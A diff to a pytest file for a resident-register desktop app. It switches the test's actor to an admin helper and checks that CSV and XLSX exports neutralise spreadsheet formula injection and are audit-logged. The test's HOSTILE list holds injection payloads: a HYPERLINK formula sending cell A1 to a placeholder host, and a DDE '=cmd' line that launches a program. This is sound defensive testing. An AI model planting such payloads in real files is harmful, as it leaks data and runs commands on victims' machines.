@@ -8,12 +8,12 @@ import zipfile
 import pytest
 from openpyxl import load_workbook
 
-from desktop.models.audit import Actor
 from desktop.models.export_cells import FORMULA_LEADS
 from desktop.models.register import export as register_export
 from desktop.models.residents.export import export_residents
 from desktop.models.residents.importing import import_rows, read_file
 from desktop.models.residents.repository import Resident
+from tests.identities import admin_actor
 
 HOSTILE = ['=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")', "=cmd|'/c calc'!A0", "+62 812", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "\uff1d1+1", "<b>tebal</b> & <font size=80>besar</font>"]
@@ -75,17 +75,17 @@ def test_resident_exports_are_inert_and_import_back_unchanged(services, tmp_path
     people = [Resident(nik=f"35141012078500{i + 10:02d}", nama=name, tanggal_lahir="1985-07-12", jenis_kelamin="L",
                        telepon="+62 812 3456" if i == 0 else "", alamat=name)
               for i, name in enumerate(HOSTILE[:5])]
-    services.residents.insert_many(people, Actor.system())
+    services.residents.insert_many(people, admin_actor(services))
     csv_path, xlsx_path = tmp_path / "p.csv", tmp_path / "p.xlsx"
-    export_residents(services.residents, csv_path, "csv", Actor.system())
-    export_residents(services.residents, xlsx_path, "xlsx", Actor.system())
+    export_residents(services.residents, csv_path, "csv", admin_actor(services))
+    export_residents(services.residents, xlsx_path, "xlsx", admin_actor(services))
     assert not [c for c in _csv_cells(csv_path) if c.startswith(FORMULA_LEADS)]
     _assert_xlsx_inert(xlsx_path, HOSTILE[:5])
     exports = [r[0] for r in services.db.execute("SELECT action FROM audit WHERE action = 'resident.export'")]
     assert len(exports) == 2  # personal data leaving the office is on the audit trail
     for path in (csv_path, xlsx_path):  # what went out comes back exactly (the apostrophe is ours)
         services.db.execute("DELETE FROM residents")
-        report = import_rows(services.residents, read_file(path), Actor.system())
+        report = import_rows(services.residents, read_file(path), admin_actor(services))
         assert report.refused == [] and report.imported == 5
         names = {r[0] for r in services.db.execute("SELECT nama FROM residents")}
         assert names == {" ".join(n.split()).upper() for n in HOSTILE[:5]}
